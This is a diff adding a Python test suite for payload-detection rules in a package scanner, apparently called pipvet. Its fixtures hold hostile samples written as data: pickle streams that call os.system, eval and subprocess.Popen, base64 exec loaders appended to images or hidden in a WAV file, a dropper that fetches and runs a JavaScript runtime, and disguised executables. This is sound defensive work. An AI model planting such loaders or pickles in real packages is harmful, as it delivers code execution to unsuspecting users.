@@ -1,0 +1,172 @@
+"""Payload rules over bytes built at test time: tiny executables, images with appended data,
+crafted pickle opcode streams (never unpickled) and droppers in source."""
+
+from __future__ import annotations
+
+import io
+import pickle
+import pickletools
+import struct
+import zipfile
+import zlib
+
+from rulekit import ids, package, py, run
+
+from pipvet.analysis.context import FileContext, FileKind
+from pipvet.analysis.rules import payloads
+from pipvet.models import Severity, Stage
+
+R = payloads.RULES
+
+
+def blob(path: str, data: bytes, kind: FileKind = FileKind.BINARY) -> FileContext:
+    return FileContext(path=path, data=data, kind=kind, stage=Stage.DATA)
+
+
+ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 57
+
+
+def pe() -> bytes:
+    head = bytearray(b"MZ" + b"\0" * 0x7E)
+    struct.pack_into("<I", head, 0x3C, 0x80)
+    return bytes(head) + b"PE\0\0" + b"\0" * 64
+
+
+def png(extra: bytes = b"") -> bytes:
+    def chunk(kind: bytes, body: bytes) -> bytes:
+        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
+
+    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + chunk(b"IHDR", ihdr)
+        + chunk(b"IDAT", zlib.compress(b"\0\0"))
+        + chunk(b"IEND", b"")
+    ) + extra
+
+
+def jpeg(extra: bytes = b"") -> bytes:
+    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0"
+    sos = b"\xff\xda" + struct.pack(">H", 8) + b"\x01\x01\0\0\x3f\0"
+    scan = b"\x12\x34\xff\x00\x56\xff\xd0\x78"  # stuffed 0xFF00 and a restart marker inside the scan
+    return b"\xff\xd8" + app0 + sos + scan + b"\xff\xd9" + extra
+
+
+def gif(extra: bytes = b"") -> bytes:
+    header = b"GIF89a" + struct.pack("<HH", 1, 1) + b"\x80\0\0" + b"\0\0\0\xff\xff\xff"
+    image = b"\x2c" + struct.pack("<HHHH", 0, 0, 1, 1) + b"\0" + b"\x02\x02\x44\x01\0"
+    return header + image + b"\x3b" + extra
+
+
+def wav(extra: bytes = b"") -> bytes:
+    fmt = b"fmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 8000, 1, 8)
+    data = b"data" + struct.pack("<I", 4) + b"\x80\x80\x80\x80"
+    body = b"WAVE" + fmt + data
+    return b"RIFF" + struct.pack("<I", len(body)) + body + extra
+
+
+PAYLOAD = b"import base64;exec(base64.b64decode('cHJpbnQoMSk='))" * 4
+
+
+def test_native_binary_in_pure_package_is_weak_and_disguised_one_is_high() -> None:
+    plain = run(R, blob("pkg/bin/helper.so", ELF), package(pure_python=True))
+    assert [f.severity for f in plain] == [Severity.LOW]
+    disguised = run(R, blob("pkg/assets/logo.png", pe()), package(pure_python=True))
+    assert disguised
+    assert disguised[0].severity is Severity.HIGH
+    assert "PE" in (disguised[0].evidence or "")
+    no_ext = run(R, blob("triton/runtime/triton", ELF), package(pure_python=False))
+    assert no_ext
+    assert no_ext[0].severity is Severity.HIGH
+
+
+def test_extension_module_in_a_binary_wheel_is_fine() -> None:
+    assert (
+        run(R, blob("pkg/_speedups.cpython-311-x86_64-linux-gnu.so", ELF), package(pure_python=False)) == []
+    )
+    java = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\0" * 32
+    assert run(R, blob("pkg/Lib.class", java), package(pure_python=True)) == []
+
+
+def test_encoded_executable_in_source() -> None:
+    bad = py("blob = 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA'\nopen('x.exe','wb').write(blob)\n")
+    assert "PV-PAY-ENCODED-EXE" in ids(run(R, bad))
+    benign = py("TV_SHOWS = ['TVqQ is not here', 'MZ']\n")
+    assert run(R, benign) == []
+
+
+def test_data_appended_to_media() -> None:
+    for make, fmt in ((png, "PNG"), (jpeg, "JPEG"), (gif, "GIF"), (wav, "WAVE")):
+        clean = run(R, blob(f"pkg/a.{fmt.lower()}", make(), FileKind.MEDIA))
+        assert clean == [], fmt
+        padded = run(R, blob(f"pkg/a.{fmt.lower()}", make(b"\0" * 100), FileKind.MEDIA))
+        assert padded == [], fmt
+        bad = run(R, blob(f"pkg/a.{fmt.lower()}", make(PAYLOAD), FileKind.MEDIA))
+        assert len(bad) == 1, fmt
+        assert bad[0].rule == "PV-PAY-MEDIA"
+        assert bad[0].severity is Severity.HIGH
+        assert fmt in (bad[0].evidence or "")
+
+
+def test_dangerous_pickle_global_and_reduce() -> None:
+    # protocol 2, GLOBAL 'os system', a one-tuple argument, REDUCE, STOP
+    evil = b"\x80\x02cos\nsystem\nX\x04\x00\x00\x00echo\x85R."
+    found = run(R, blob("pkg/model.pkl", evil, FileKind.PICKLE))
+    assert found
+    assert found[0].severity is Severity.CRITICAL
+    assert "os.system" in (found[0].evidence or "")
+    # protocol 4, STACK_GLOBAL built from memoised strings
+    stacked = b"\x80\x04\x8c\x08builtins\x94\x8c\x04eval\x94\x93\x8c\x031+1\x94\x85\x94R\x94."
+    assert [op.name for op, _, _ in pickletools.genops(stacked)][-3:] == ["REDUCE", "MEMOIZE", "STOP"]
+    found = run(R, blob("pkg/weights.bin", stacked))
+    assert found
+    assert "builtins.eval" in (found[0].evidence or "")
+
+
+def test_ordinary_pickles_and_torch_zip() -> None:
+    from collections import OrderedDict
+
+    benign = pickle.dumps({"weights": [1.0, 2.0], "order": OrderedDict(a=1)}, protocol=4)
+    assert run(R, blob("pkg/model.pkl", benign, FileKind.PICKLE)) == []
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        z.writestr("archive/data.pkl", b"\x80\x02csubprocess\nPopen\nX\x02\x00\x00\x00id\x85R.")
+    found = run(R, blob("pkg/model.pt", buf.getvalue()))
+    assert found
+    assert "subprocess.Popen" in (found[0].evidence or "")
+
+
+def test_foreign_runtime_dropper() -> None:
+    bad = py(
+        "import subprocess, urllib.request\n"
+        "BUN = 'https://github.com/oven-sh/bun/releases/latest/download/bun.zip'\n"
+        "urllib.request.urlretrieve(BUN, 'b.zip')\n"
+        "subprocess.Popen(['bun', 'run', 'payload.js'])\n"
+    )
+    found = [f for f in run(R, bad) if f.rule == "PV-PAY-JSRUNTIME"]
+    assert found
+    assert found[0].severity is Severity.HIGH
+    benign = py("NODE_HELP = 'install node to build the docs'\n")
+    assert run(R, benign) == []
+    obfuscated = blob("pkg/ui/x.js", (b"var _0xab12=['a'];" * 300) + b" " * 1_000_000, FileKind.TEXT)
+    found = run(R, obfuscated)
+    assert found
+    assert found[0].severity is Severity.MEDIUM
+    bundle = blob("pkg/static/app.js", b"function f(a){return a}\n" * 50_000, FileKind.TEXT)
+    assert all(f.severity is Severity.INFO for f in run(R, bundle))
+
+
+def test_code_running_its_own_media_file() -> None:
+    bad = py(
+        "import wave, base64\n"
+        "w = wave.open(__file__.replace('__init__.py', 'hangup.wav'))\n"
+        "exec(base64.b64decode(w.readframes(w.getnframes())))\n"
+    )
+    assert "PV-PAY-OWNDATA" in ids(run(R, bad))
+    benign = py(
+        "import setuptools\n"
+        "exec(open('pkg/version.py').read())\n"
+        "setuptools.setup(long_description=open('README.txt').read())\n",
+        stage=Stage.INSTALL,
+    )
+    assert "PV-PAY-OWNDATA" not in ids(run(R, benign))
